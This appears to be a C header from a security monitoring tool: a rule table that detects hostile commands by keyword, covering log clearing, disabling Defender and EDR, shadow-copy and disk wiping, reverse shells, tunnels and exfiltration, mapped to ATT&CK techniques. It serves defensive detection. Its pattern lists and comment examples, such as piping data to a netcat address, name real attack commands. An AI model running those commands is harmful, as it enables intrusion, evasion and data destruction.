/*
 * deed_rows: the table of deeds (deed.h), and the few tests that words cannot express.
 *
 * Words stand in lower case, separated by '|', without quotes; a space at a word's end
 * holds at the end of the command too. Rows come from what the tools' own manuals say
 * that they do. Levels: high where hardly any honest work does it; medium where
 * administrators do it at times; low where it only belongs to a picture.
 */
#ifndef KANSHIKI_BASE_DEED_ROWS_H
#define KANSHIKI_BASE_DEED_ROWS_H

#include "base/deed.h"

#define DEED_LISTS 3

struct deed_row {
	struct deed deed;
	const char *words[DEED_LISTS];	/* one of each; NULL: that was all */
	const char *none;		/* NULL, or none of these */
	bool (*holds)(struct span text, struct span command);	/* NULL, or also this; command: as it was */
};

/* ---- what words cannot say ---- */

static bool is_public_v4(const uint8_t a[4])
{
	return a[0] && a[0] != 10 && a[0] != 127 && a[0] < 224 && !(a[0] == 100 && (a[1] & 0xc0) == 64) &&
	       !(a[0] == 169 && a[1] == 254) && !(a[0] == 172 && (a[1] & 0xf0) == 16) && !(a[0] == 192 && a[1] == 168);
}

static bool is_digit(uint8_t c)
{
	return c >= '0' && c <= '9';
}

/* Four numbers up to 255 with dots between, and no digit or dot around them: no version has four. */
static bool take_v4(struct span s, size_t *at, uint8_t to[4])
{
	for (int part = 0; part < 4; part++) {
		unsigned n = 0, digits = 0;

		while (*at < s.len && is_digit(s.at[*at]) && digits++ < 4)
			n = n * 10 + (s.at[(*at)++] - '0');
		if (!digits || digits > 3 || n > 255 || (part < 3 && (*at >= s.len || s.at[*at] != '.')))
			return false;
		to[part] = (uint8_t)n;
		*at += part < 3;
	}
	return *at == s.len || s.at[*at] != '.';
}

bool deed_names_public_address(struct span command)
{
	uint8_t a[4];

	for (size_t at = 0; at < command.len; at++) {
		size_t end = at;

		if (!is_digit(command.at[at]))
			continue;
		if (take_v4(command, &end, a) && is_public_v4(a))
			return true;
		while (at + 1 < command.len && (is_digit(command.at[at + 1]) || command.at[at + 1] == '.'))
			at++;
	}
	return false;
}

/* "ssh -fNR 2222:localhost:22 u@x": an option that ends in R, and a port with ends behind it. */
static bool is_remote_forward(struct span text, struct span command)
{
	struct span rest = command;

	while (rest.len) {
		struct span word = span_split(&rest, ' ');
		size_t at = span_find_byte(word, 0, 'R');
		struct span spec = at == SIZE_MAX ? word : span_from(word, at + 1);

		if (word.len < 2 || word.at[0] != '-' || word.at[1] == '-' || at == SIZE_MAX || at > 6)
			continue;
		if (!spec.len)
			spec = span_split(&rest, ' ');
		if (spec.len && (span_find_byte(spec, 0, ':') != SIZE_MAX || is_digit(spec.at[0])))
			return true;
	}
	return false;
}

/* "--vacuum-time=1s", "…=2h": so that nearly nothing stays; "…=30d" is housekeeping. */
static bool is_vacuum_of_all(struct span text, struct span command)
{
	size_t at = span_find(text, 0, SPAN("--vacuum-"));
	struct span rest = span_from(text, at == SIZE_MAX ? text.len : at + 9), key = span_split(&rest, '=');
	size_t digits = 0;
	uint64_t n;

	while (digits < rest.len && is_digit(rest.at[digits]))
		digits++;
	if (!span_to_u64(span_sub(rest, 0, digits), &n))
		return false;
	rest = span_from(rest, digits);
	if (span_eq(key, SPAN("time")))
		return n == 0 || (rest.len && (rest.at[0] == 's' || rest.at[0] == 'h' || rest.at[0] == ' ' ||
					       (rest.at[0] == 'm' && !span_starts(rest, SPAN("month")))));
	return span_eq(key, SPAN("size")) && (n == 0 || (rest.len && (rest.at[0] == 'k' || rest.at[0] == ' ' ||
								      (rest.at[0] == 'm' && n <= 16))));
}

/* What Defender is told to look away from is a place where anybody may write, or a whole disk. */
static bool is_open_place_left_out(struct span text, struct span command)
{
	struct span left_out = span_from(text, span_find(text, 0, SPAN("-exclusion")));

	return span_has_any(left_out, "\\temp|\\public|programdata|appdata|downloads|:\\ |:\\users|powershell|cmd.exe|"
				      ".exe |.ps1|.dll|perflogs|exclusionextension");
}

/* "x | nc 198.51.100.7 99", "nc 198.51.100.7 99 < x": what goes in is sent. */
static bool is_piped_away(struct span text, struct span command)
{
	size_t pipe = span_find(text, 0, SPAN("|"));

	return deed_names_public_address(text) &&
	       ((pipe != SIZE_MAX && pipe < span_find(text, 0, SPAN("nc "))) || span_find_byte(text, 0, '<') != SIZE_MAX);
}

static bool is_to_public_address(struct span text, struct span command)
{
	return deed_names_public_address(text);
}

/* ---- lists that several rows share ---- */

#define DEFENDERS_LINUX \
	"auditd|rsyslog|syslog-ng|systemd-journald|journald|falcon-sensor|mdatp|clamav|clamd|ossec|wazuh-agent|filebeat|" \
	"auditbeat|osqueryd|apparmor|fail2ban|sysmon|sentinelone|sentinelctl|cbagentd|esets|ds_agent|xagt|elastic-agent|" \
	"elastic-endpoint|splunkforwarder|td-agent|velociraptor"
#define DEFENDERS_WINDOWS \
	"windefend|msmpeng|msmpsvc|wdnissvc|wdfilter|wdboot|sense |sense.exe|mssense|sysmon|sysmondrv|csfalconservice|" \
	      "csagent|" \
	"falcon|sentinelagent|sentinelone|sentinelmonitor|eventlog|wscsvc|securityhealthservice|carbonblack|cbdefense|" \
	"cbdefensesvc|cylancesvc|sophos|savservice|mcshield|mfemms|sepmasterservice|ekrn|avp.exe|klnagent|tmlisten|ntrtscan|" \
	"wazuh|ossecsvc|osqueryd|winlogbeat|mpssvc|xagt|cyserver|elastic-endpoint|elastic-agent|velociraptor|nxlog"
#define DEVICES \
	"/dev/sd|/dev/nvme|/dev/vd|/dev/xvd|/dev/hd|/dev/mmcblk|/dev/mapper/|/dev/dm-|/dev/md|/dev/vg|/dev/disk/|physicaldrive"
#define SYSTEM_RECORDS \
	"/var/log/auth|/var/log/secure|/var/log/syslog|/var/log/messages|/var/log/wtmp|/var/log/btmp|/var/log/lastlog|" \
	"/var/log/faillog|/var/log/audit|/var/log/journal|/var/log/kern|/var/log/cron|/var/log/sudo|/var/log/tallylog|" \
	"/var/log/* |/var/log/*.log |/var/log/*log |/var/log |/var/log/ |/var/log/{|/run/utmp"
#define HOUSEKEEPING ".gz|.xz|.zst|.1 |.2 |.3 |.4 |.old|*.1|*.2|*.3|*.4|.[0-9]|-mtime|-mmin|-ctime|logrotate|>>"
#define DATA_FOLDERS_LINUX \
	" / | /* | /srv | /srv/ | /srv/* | /home | /home/ | /home/* | /var/lib/mysql | /var/lib/mysql/ |" \
	" /var/lib/mysql/* | /var/lib/postgresql | /var/lib/postgresql/ | /var/lib/postgresql/* |" \
	" /var/lib/docker | /var/lib/libvirt/images| /var/backups | /backup | /backup/ | /backup/* | /backups |" \
	" /backups/ | /backups/* | /srv/backup | /srv/backups | /srv/backup/* | /srv/backups/* | /var/www |" \
	" /var/www/ | /var/www/* | /data | /data/ | /data/* | /etc | /etc/* | /boot | /boot/* | /usr | /usr/* |" \
	" /var | /vmfs/volumes| /mnt/* | /opt | /opt/* "
#define DATA_FOLDERS_WINDOWS \
	":\\*|:\\ |:\\shares|:\\users\\* |:\\users |:\\users\\ |:\\data |:\\data\\|:\\backup|:\\home|:\\profiles|:\\finance|" \
	":\\projects |:\\projects\\* |:\\archiv|:\\sqldata|:\\hyper-v|:\\vms"

#define OBSTRUCTION(level, rule, title, techniques) { HARM_OBSTRUCTION, LEVEL_##level, "kanshiki." rule, title, techniques }
#define DESTRUCTION(level, rule, title, techniques) { HARM_DESTRUCTION, LEVEL_##level, "kanshiki." rule, title, techniques }
#define CONTROL(level, rule, title, techniques) { HARM_CONTROL, LEVEL_##level, "kanshiki." rule, title, techniques }
#define THEFT(level, rule, title, techniques) { HARM_THEFT, LEVEL_##level, "kanshiki." rule, title, techniques }
#define HIDES(techniques) OBSTRUCTION(HIGH, "hiding-command", "A command cleared records or stopped a defence", techniques)
#define WEAKENS(techniques) \
	OBSTRUCTION(MEDIUM, "weakening-command", "A command weakened a defence or moved the clock", techniques)
#define UNREPAIRABLE(rule, title) DESTRUCTION(HIGH, rule, title, "T1490")
#define WIPES DESTRUCTION(HIGH, "files-wiped", "Files were destroyed beyond recovery by command", "T1485")
#define DELETES DESTRUCTION(MEDIUM, "data-deleted", "Folders, databases or machines were deleted whole by command", "T1485")
#define TUNNEL CONTROL(MEDIUM, "tunnel-command", "A command opened a way in from outside", "T1572 T1090")
#define TUNNEL_TOOL CONTROL(HIGH, "tunnel-tool", "A tool for tunnels through a firewall was started", "T1572 T1090")
#define SHELL CONTROL(HIGH, "reverse-shell", "A command handed a shell to the network", "T1059 T1095")
#define REMOTE_TOOL CONTROL(MEDIUM, "remote-tool-installed", "A remote-control program was installed by command", "T1219")
#define ELSEWHERE(techniques) CONTROL(MEDIUM, "run-elsewhere", "A command was run on another machine", techniques)

static const struct deed_row deed_rows[] = {
	/* ---- obstruction: records ---- */
	{ .deed = HIDES("T1070.001"),
	  .words = { "wevtutil", " cl | clear-log" } },
	{ .deed = HIDES("T1562.002"),
	  .words = { "wevtutil", " sl | set-log", "/e:f|/enabled:f" } },
	{ .deed = HIDES("T1070.001"),
	  .words = { "clear-eventlog|remove-eventlog|clear-winevent|limit-eventlog" },
	  .none = "get-help|get-command" },
	{ .deed = HIDES("T1070.001"),
	  .words = { ".clearlog(|globalsession.clearlog" } },
	{ .deed = HIDES("T1070.001"),
	  .words = { "del |erase |rm |remove-item|move |ren ", "winevt\\logs\\" } },
	{ .deed = HIDES("T1070"),
	  .words = { "fsutil", "deletejournal" } },
	{ .deed = HIDES("T1562.002"),
	  .words = { "auditpol", "/clear|/remove|disable" } },
	{ .deed = HIDES("T1562.006"),
	  .words = { "logman", " stop | delete | update ", "eventlog-|sysmon|defender|antimalware|securitytrace" } },
	{ .deed = HIDES("T1562.006"),
	  .words = { "set-etwtraceprovider|remove-etwtraceprovider|remove-autologgerconfig" } },
	{ .deed = HIDES("T1562.006"),
	  .words = { "psetwlogprovider|etweventwrite|etwprovider", "setvalue|getfield|virtualprotect|getprocaddress" } },
	{ .deed = HIDES("T1562.001"),
	  .words = { "amsiutils|amsiinitfailed|amsiscanbuffer|amsicontext",
	      "setvalue|getfield|virtualprotect|getprocaddress|gettype" } },
	{ .deed = HIDES("T1562.002"),
	  .words = { "reg add|reg.exe add|itemproperty",
	      "wmi\\autologger|enablescriptblocklogging|enablemodulelogging|enabletranscripting|"
	      "processcreationincludecmdline_enabled|etwenabled|minint", "/d 0|-value 0" } },
	{ .deed = HIDES("T1070.003"),
	  .words = { "history -c|unset histfile|histfile=/dev/null|histsize=0|histfilesize=0|set +o history|"
	      "savehist=0|set-psreadlineoption -historysavestyle savenothing|clear-history" } },
	{ .deed = HIDES("T1070.003"),
	  .words = { ".bash_history|.zsh_history|.sh_history|fish_history|consolehost_history|.mysql_history",
	      "rm |shred |truncate |unlink |del |erase |remove-item|clear-content|ln -s|/dev/null >|/dev/null>|"
	      "cp /dev/null|> ~|>~|> .|>.|> /root|>/root|> /home|>/home|> $h|>$h" },
	  .none = ">>" },
	{ .deed = HIDES("T1070.003"),
	  .words = { "reg delete|reg.exe delete|remove-item",
	      "runmru|typedpaths|recentdocs|userassist|bagmru|terminal server client|muicache|shimcache|appcompatcache" } },
	{ .deed = HIDES("T1070.002"),
	  .words = { "rm |shred |truncate |unlink |srm |wipe |cat /dev/null|cp /dev/null|echo >|echo -n >|:>|: >|> /var/|"
	      ">/var/|dd if=|-delete|find ", SYSTEM_RECORDS, "rm |shred |truncate |unlink |srm |wipe |> /var/log|"
	      ">/var/log|>/run|> /run|>/var/run|cp /dev/null|of=/|"
	      "-delete" },
	  .none = HOUSEKEEPING },
	{ .deed = HIDES("T1070.002"),
	  .words = { "sed -i|sed --in-place|perl -pi|perl -i", "/var/log/" } },
	{ .deed = HIDES("T1070.002"),
	  .words = { "utmpdump", " -r| --reverse" } },
	{ .deed = HIDES("T1070.002"),
	  .words = { "rm |rm -", "/var/log/*.log " },
	  .none = HOUSEKEEPING },
	{ .deed = HIDES("T1070.002"),
	  .words = { "journalctl", "--vacuum-" },
	  .holds = is_vacuum_of_all },
	{ .deed = HIDES("T1562.012"),
	  .words = { "auditctl", " -e 0| -e0| -d" } },
	/* ---- obstruction: defences ---- */
	{ .deed = HIDES("T1562.001"),
	  .words = { "systemctl|service |rc-service|/etc/init.d/|chkconfig|update-rc.d|launchctl",
	      " stop| disable| mask| off |remove", DEFENDERS_LINUX } },
	{ .deed = HIDES("T1562.001"),
	  .words = { "kill -9|kill -kill|kill -19|kill -stop|killall|pkill", DEFENDERS_LINUX "|rsyslogd" },
	  .none = "-hup|-usr1|-s hup| -1 " },
	{ .deed = HIDES("T1562.001"),
	  .words = { "set-mppreference|add-mppreference",
	      "-disablerealtimemonitoring $true|-disablerealtimemonitoring 1|-disablerealtimemonitoring:$true|"
	      "-disableioavprotection $true|-disableioavprotection 1|-disablebehaviormonitoring $true|"
	      "-disablebehaviormonitoring 1|-disablescriptscanning $true|-disablescriptscanning 1|"
	      "-disableblockatfirstseen $true|-disableblockatfirstseen 1|-disableintrusionpreventionsystem $true|"
	      "-disableintrusionpreventionsystem 1|-mapsreporting 0|-mapsreporting disabled|"
	      "-disabletamperprotection $true|-enablecontrolledfolderaccess disabled|-puaprotection disable" } },
	{ .deed = HIDES("T1562.001"),
	  .words = { "set-mppreference|add-mppreference", "-exclusion" },
	  .holds = is_open_place_left_out },
	{ .deed = HIDES("T1562.001"),
	  .words = { "mpcmdrun", "-removedefinitions|-disableservice" } },
	{ .deed = HIDES("T1562.001"),
	  .words = { "reg add|reg.exe add|itemproperty",
	      "disableantispyware|disableantivirus|disablerealtimemonitoring|disablebehaviormonitoring|tamperprotection|"
	      "disableonaccessprotection|disablescanonrealtimeenable|disableioavprotection" },
	  .none = "disablerealtimemonitoring /t reg_dword /d 0|disableantispyware /t reg_dword /d 0|"
	      "tamperprotection /t reg_dword /d 5" },
	{ .deed = HIDES("T1562.004"),
	  .words = { "netsh", "advfirewall|firewall set", "state off|opmode disable|mode=disable|opmode mode=disable" } },
	{ .deed = HIDES("T1562.004"),
	  .words = { "set-netfirewallprofile", "-enabled false|-enabled:false|-enabled $false|-enabled:$false|-enabled 0" } },
	{ .deed = HIDES("T1562.001"),
	  .words = { "fltmc", "unload" } },
	{ .deed = HIDES("T1562.001"),
	  .words = { "sysmon -u|sysmon64 -u|sysmon.exe -u|sysmon64.exe -u|sysmon64a.exe -u" } },
	{ .deed = HIDES("T1562.001"),
	  .words = { "sc stop|sc.exe stop|sc delete|sc.exe delete|net stop|net.exe stop|net1 stop|stop-service|taskkill|"
	      "stop-process|pskill|wmic process", DEFENDERS_WINDOWS },
	  .none = "restart" },
	{ .deed = HIDES("T1562.001"),
	  .words = { "sc config|sc.exe config|set-service", DEFENDERS_WINDOWS, "disabled" } },
	{ .deed = HIDES("T1562.001"),
	  .words = { "setenforce 0|setenforce permissive|aa-teardown|aa-disable" } },
	{ .deed = HIDES("T1562.004"),
	  .words = { "ufw disable|ufw --force disable|ufw --force reset" } },
	{ .deed = HIDES("T1562.004"),
	  .words = { "systemctl|service ", " stop| disable| mask", "firewalld|ufw|nftables|iptables" } },
	{ .deed = WEAKENS("T1562.004"),
	  .words = { "iptables -f |iptables --flush |ip6tables -f |iptables -p input accept|nft flush ruleset" } },
	{ .deed = HIDES("T1562.001"),
	  .words = { "esxcli", "auditrecords local disable|auditrecords remote disable|--loghost= |--reset=loghost|"
	      "firewall set --enabled false|firewall set -e false|firewall set --enabled=false|firewall unload" } },
	{ .deed = HIDES("T1562.008"),
	  .words = { "aws ", "cloudtrail stop-logging|cloudtrail delete-trail|guardduty delete-detector|delete-flow-logs|"
	      "configservice stop-configuration-recorder|configservice delete-|logs delete-log-group" } },
	{ .deed = HIDES("T1562.008"),
	  .words = { "az monitor|gcloud logging|gcloud services", "diagnostic-settings delete|log-profiles delete|sinks delete|"
	      "disable logging" } },
	{ .deed = HIDES("T1562.008"),
	  .words = { "set-adminauditlogconfig|set-mailboxauditbypassassociation|set-organizationconfig",
	      "auditlogenabled $false|ingestionenabled $false|bypassenabled $true|auditdisabled $true" } },
	/* ---- obstruction: the clock, and times of files ---- */
	{ .deed = WEAKENS("T1070.006"),
	  .words = { "date -s |date --set|hwclock --set|timedatectl set-time|set-date " },
	  .none = "ntpdate|$(curl|$(wget" },
	{ .deed = WEAKENS("T1070.006"),
	  .words = { "timedatectl set-ntp", "set-ntp 0|set-ntp no|set-ntp false|set-ntp off" } },
	{ .deed = WEAKENS("T1070.006"),
	  .words = { "net stop|sc stop|sc.exe stop|sc config|stop-service", "w32time" } },
	{ .deed = OBSTRUCTION(MEDIUM, "times-command", "File times were set by command", "T1070.006"),
	  .words = { "touch ", " -r | -t | -d | -acm| --reference| --date| -am",
	      " /usr/| /bin/| /sbin/| /lib| /etc/| /var/www/| /boot/" } },
	{ .deed = OBSTRUCTION(LOW, "times-command-listed", "File times were set by command, where anybody may", "T1070.006"),
	  .words = { "touch ", " -r | -t | -d | --reference| --date" } },
	{ .deed = OBSTRUCTION(MEDIUM, "times-command", "File times were set by command", "T1070.006"),
	  .words = { ".creationtime=|.creationtime =|.lastwritetime=|.lastwritetime =|.lastaccesstime=|"
	      ".lastaccesstime =|.creationtimeutc =|"
	      ".lastwritetimeutc =|setcreationtime(|setlastwritetime(|timestomp|setmace|setfiletime" },
	  .none = "==" },
	/* ---- destruction ---- */
	{ .deed = DESTRUCTION(LOW, "oldest-shadow-removed", "The oldest shadow copy was removed by command", "T1490"),
	  .words = { "vssadmin", "delete shadows", "/oldest" } },
	{ .deed = UNREPAIRABLE("shadows-removed", "Shadow copies were removed by command"),
	  .words = { "vssadmin", "delete shadows" } },
	{ .deed = UNREPAIRABLE("shadows-removed", "Shadow copies were removed by command"),
	  .words = { "vssadmin", "resize shadowstorage", "mb |=1% |=2% " } },
	{ .deed = UNREPAIRABLE("shadows-removed", "Shadow copies were removed by command"),
	  .words = { "wmic", "shadowcopy", "delete" } },
	{ .deed = UNREPAIRABLE("shadows-removed", "Shadow copies were removed by command"),
	  .words = { "win32_shadowcopy", "delete|remove-" } },
	{ .deed = UNREPAIRABLE("shadows-removed", "Shadow copies were removed by command"),
	  .words = { "delete shadows all|delete shadows volume|delete shadows /all" } },
	{ .deed = UNREPAIRABLE("backups-removed", "Backups were removed by command"),
	  .words = { "wbadmin", "delete catalog|delete systemstatebackup|delete backup" },
	  .none = "-keepversions:|-deleteoldest|/deleteoldest" },
	{ .deed = UNREPAIRABLE("backups-removed", "Backups were removed by command"),
	  .words = { "wbadmin", "delete", "-keepversions:0" } },
	{ .deed = DESTRUCTION(MEDIUM, "backups-deleted", "Backups were deleted by a command of their software", "T1490"),
	  .words = { "remove-vbrbackup|remove-vbrrestorepoint|remove-wbbackupset|remove-dpmrecoverypoint|remove-recoverypoint|"
	      "delete-recovery-point|delete-backup-vault|az backup protection disable" } },
	{ .deed = UNREPAIRABLE("recovery-off", "Recovery at start was switched off"),
	  .words = { "bcdedit", "recoveryenabled no|recoveryenabled off|ignoreallfailures" } },
	{ .deed = UNREPAIRABLE("recovery-off", "Recovery at start was switched off"),
	  .words = { "reagentc", "/disable" } },
	{ .deed = DESTRUCTION(HIGH, "device-overwritten", "A device was overwritten by command", "T1561"),
	  .words = { "dd ",
	      "of=/dev/sd|of=/dev/nvme|of=/dev/vd|of=/dev/xvd|of=/dev/hd|of=/dev/mapper/|of=/dev/dm-|of=/dev/md|of=/dev/vg|"
	      "of=/dev/mmcblk|of=/dev/disk/|of=\\\\.\\physicaldrive" },
	  .none = ".iso|.img|.raw |.qcow2|.wic" },
	{ .deed = DESTRUCTION(HIGH, "device-overwritten", "A device was overwritten by command", "T1561"),
	  .words = { "shred |blkdiscard |nwipe |badblocks -w|hdparm --security-erase", DEVICES } },
	{ .deed = DESTRUCTION(MEDIUM, "device-emptied", "The marks of a device's file system were taken away by command",
	      "T1561.002"),
	  .words = { "wipefs ", " -a| --all| -f", DEVICES } },
	{ .deed = DESTRUCTION(MEDIUM, "device-emptied", "The marks of a device's file system were taken away by command",
	      "T1561.002"),
	  .words = { "mkfs|mke2fs|sgdisk", " -f | --zap-all| -z ",
	      "/dev/sda|/dev/nvme0n1|/dev/vda|/dev/xvda|/dev/hda|/dev/mmcblk0" } },
	{ .deed = DESTRUCTION(MEDIUM, "device-emptied", "The marks of a device's file system were taken away by command",
	      "T1561.002"),
	  .words = { "cat /dev/zero|cat /dev/urandom|cat /dev/random",
	      ">/dev/sd|> /dev/sd|>/dev/nvme|> /dev/nvme|>/dev/vd|> /dev/vd" } },
	{ .deed = DESTRUCTION(HIGH, "device-overwritten", "A device was overwritten by command", "T1561"),
	  .words = { "cryptsetup", "lukserase|luks-erase|erase |lukskillslot" } },
	{ .deed = DESTRUCTION(MEDIUM, "volume-removed", "A volume was removed by command", "T1485"),
	  .words = { "lvremove|vgremove|pvremove|zfs destroy|zpool destroy|btrfs subvolume delete" },
	  .none = "snap|@" },
	{ .deed = DESTRUCTION(HIGH, "device-overwritten", "A device was overwritten by command", "T1561"),
	  .words = { "diskpart|select disk", "clean all" } },
	{ .deed = DESTRUCTION(HIGH, "device-overwritten", "A device was overwritten by command", "T1561"),
	  .words = { "clear-disk", "-removedata" } },
	{ .deed = DESTRUCTION(MEDIUM, "device-emptied", "The marks of a device's file system were taken away by command",
	      "T1561.002"),
	  .words = { "format |format.com |format-volume", ":", " /y| /p:| /force| -force" },
	  .none = "-format|get-date|tostring" },
	{ .deed = WIPES,
	  .words = { "sdelete|sdelete64", " -z| -c| -s| -p|\\users\\" } },
	{ .deed = WIPES,
	  .words = { "cipher", " /w" } },
	{ .deed = WIPES,
	  .words = { "rm ", "--no-preserve-root" } },
	{ .deed = WIPES,
	  .words = { "rm -rf|rm -fr|rm -r", "/vmfs/volumes" } },
	{ .deed = WIPES,
	  .words = { "find /", "-exec shred|-exec srm|-exec wipe" } },
	{ .deed = WIPES,
	  .words = { "shred ", " -u| -z| --remove", "/srv|/home/*|/var/lib/|/backup|/data/" } },
	{ .deed = DELETES,
	  .words = { "rm -rf|rm -fr|rm -r |rm --recursive", DATA_FOLDERS_LINUX } },
	{ .deed = DELETES,
	  .words = { "find /srv|find /home|find / |find /data|find /var/lib/mysql|find /vmfs|find /backup|find /mnt",
	      "-exec rm|-delete" },
	  .none = "-mtime|-atime|-ctime|-mmin|-name|-iname|-user |-empty|-newer|-perm|-regex|-size|-inum" },
	{ .deed = DELETES,
	  .words = { "rd /s|rd /q /s|rmdir /s|rmdir /q /s|del /s|del /f /s|del /q /s|del /f /q /s|del /s /q|del /s /f|"
	      "del /q /f /s", DATA_FOLDERS_WINDOWS } },
	{ .deed = DELETES,
	  .words = { "remove-item", "-recurse", DATA_FOLDERS_WINDOWS },
	  .none = "-filter|-include|lastwritetime|adddays|extension|where-object|-match|.log|.tmp|-exclude" },
	{ .deed = DELETES,
	  .words = { "drop database|drop\\040database|drop schema|dropdb |dropdatabase()" },
	  .none = "test|tmp|temp|_dev|dev_|staging|_old|sandbox|if exists|create database|demo" },
	{ .deed = DESTRUCTION(HIGH, "ransom-table", "A note about recovery was written into a database", "T1486"),
	  .words = { "create table|create\\040table|insert into|insert\\040into",
	      "readme_to_recover|to_recover|recover_your_data|bitcoin|ransom" } },
	{ .deed = DELETES,
	  .words = { "vim-cmd vmsvc/destroy|vim-cmd vmsvc/snapshot.removeall|vmkfstools -u|vmkfstools --deletevirtualdisk" } },
	{ .deed = DELETES,
	  .words = { "esxcli", "vm process kill" } },
	{ .deed = DELETES,
	  .words = { "remove-vm ", "-force" } },
	{ .deed = DELETES,
	  .words = { "aws ", "s3 rb ", "--force" } },
	{ .deed = DELETES,
	  .words = { "delete-db-instance|delete-db-cluster", "--skip-final-snapshot" } },
	{ .deed = DELETES,
	  .words = { "az group delete|gcloud projects delete|docker volume rm $(|docker volume rm -f $(" } },
	{ .deed = DELETES,
	  .words = { "kubectl delete", " namespace | ns | pvc --all| all --all" },
	  .none = "test|dev|staging|tmp|review|preview" },
	/* ---- control ---- */
	{ .deed = SHELL,
	  .words = { "/dev/tcp/|/dev/udp/", "bash -i|sh -i|0>&1|0<&1|zsh -i|ksh -i" } },
	{ .deed = SHELL,
	  .words = { "nc |ncat |netcat |nc.exe |nc64.exe |ncat.exe |nc.traditional |nc.openbsd ",
	      " -e | -e/| -c /| -c sh| -c bash| --exec| --sh-exec| -ec " } },
	{ .deed = SHELL,
	  .words = { "mkfifo |mknod ", "nc |ncat |telnet |openssl s_client|netcat " } },
	{ .deed = SHELL,
	  .words = { "socat ", " exec:| system:", "tcp|openssl|udp|sctp" } },
	{ .deed = SHELL,
	  .words = { "socket.socket|io::socket|fsockopen|tcpsocket|use socket",
	      "subprocess|dup2|pty.spawn|exec|system(|proc_open|popen",
	      "/bin/sh|/bin/bash|cmd.exe|sh -i|bash -i|cmd|powershell" } },
	{ .deed = SHELL,
	  .words = { "net.sockets.tcpclient|sockets.tcpclient(", "getstream",
	      "iex |invoke-expression|getstring|cmd.exe|processstartinfo" } },
	{ .deed = TUNNEL,
	  .words = { "ssh |ssh.exe |ssh.exe|autossh|plink|plink.exe" },
	  .none = "rsync|scp |ssh-keygen|ssh-add|ssh-keyscan",
	  .holds = is_remote_forward },
	{ .deed = TUNNEL,
	  .words = { "ngrok|ngrok.exe", " tcp | http | start | authtoken | service | tunnel " } },
	{ .deed = TUNNEL,
	  .words = { "cloudflared|cloudflared.exe", "tunnel |service install| access " } },
	{ .deed = TUNNEL_TOOL,
	  .words = { "chisel|chisel.exe", " client | server " } },
	{ .deed = TUNNEL_TOOL,
	  .words = { " client ", " r:socks| r:0.0.0.0:| r:127.| r:1| r:2| r:3| r:4| r:5| r:6| r:7| r:8| r:9" },
	  .none = "mosh|kubectl" },
	{ .deed = TUNNEL_TOOL,
	  .words = { "ligolo|revsocks|rpivot|gs-netcat|gsocket.io|iodine |iodined |dnscat|dns2tcp|ptunnel|icmpsh|"
	      "regeorg|neoreg|"
	      "wstunnel |rathole |frpc|frpc.exe|frps |pwncat" } },
	{ .deed = TUNNEL_TOOL,
	  .words = { " -connect ", "-ignore-cert" } },
	{ .deed = TUNNEL,
	  .words = { "tailscale up|tailscale login|zerotier-cli join|localtunnel|serveo.net|localhost.run|pinggy.io|zrok share|"
	      "devtunnel host|code tunnel|code.exe tunnel|bore local|inlets client" } },
	{ .deed = TUNNEL,
	  .words = { "netsh", "portproxy", " add | set " } },
	{ .deed = REMOTE_TOOL,
	  .words = { "anydesk", "--install|--silent|--set-password|--start-with-win" } },
	{ .deed = REMOTE_TOOL,
	  .words = { "rustdesk", "--silent-install|--password|--install-service" } },
	{ .deed = REMOTE_TOOL,
	  .words = { "meshagent", "-install|-fullinstall" } },
	{ .deed = REMOTE_TOOL,
	  .words = { "screenconnect|connectwisecontrol|teamviewer|splashtop|ateraagent|atera|simplehelp|rutserv|"
	      "ultraviewer|supremo|"
	      "netsupport|dwagent|action1|syncroinstaller|pulseway|ninjarmm|remoteutilities|zohoassist|logmein|gotoassist",
	      "/qn|-install|/install|/silent|/verysilent|--install|/s |/quiet" } },
	{ .deed = ELSEWHERE("T1569.002 T1021.002"),
	  .words = { "psexec|psexec64|psexec.exe|psexec64.exe|paexec|remcom|winexe|csexec", "\\\\|//" } },
	{ .deed = ELSEWHERE("T1053.005"),
	  .words = { "schtasks", "/create|/run|/change", " /s " } },
	{ .deed = ELSEWHERE("T1047"),
	  .words = { "wmic", "/node:", "process call create" } },
	{ .deed = ELSEWHERE("T1047"),
	  .words = { "invoke-wmimethod|invoke-cimmethod", "win32_process", "-computername|-cimsession" } },
	{ .deed = CONTROL(HIGH, "attack-tool", "A tool of intruders for other machines was started", "T1021 T1047"),
	  .words = { "wmiexec|smbexec|atexec.py|dcomexec|psexec.py|evil-winrm|crackmapexec|netexec|nxc smb|nxc winrm|"
	      "secretsdump|impacket" },
	  .none = "pip |apt|git clone" },
	{ .deed = CONTROL(HIGH, "attack-tool", "A tool of intruders for other machines was started", "T1021 T1047"),
	  .words = { "%comspec%|cmd.exe|cmd ", " /q ", "\\\\127.0.0.1\\|\\\\localhost\\|__output|\\admin$\\__" } },

	/* ---- theft: what sends, and where to is somebody's own ---- */
	{ .deed = THEFT(MEDIUM, "sending-command", "A command sent data to an address without a name", "T1048"),
	  .words = { "nc |ncat |netcat |nc.exe |nc64.exe " },
	  .none = " -z|-zv|-zvv| -l",
	  .holds = is_piped_away },
	{ .deed = THEFT(MEDIUM, "sending-command", "A command sent data to an address without a name", "T1048"),
	  .words = { "> /dev/tcp/|>/dev/tcp/", "cat |tar |base64|gzip|dump|< |zip" },
	  .none = "0>&1",
	  .holds = is_to_public_address },
	{ .deed = THEFT(MEDIUM, "sending-command", "A command sent data to an address without a name", "T1048"),
	  .words = { "tar |dump |mysqldump|pg_dump|gzip|cat ", "ssh ", "cat >|dd of=|cat>" },
	  .holds = is_to_public_address },
	{ .deed = THEFT(MEDIUM, "mailbox-exported", "Mailboxes were exported by command", "T1114.002"),
	  .words = { "new-mailboxexportrequest" } },
};

#endif
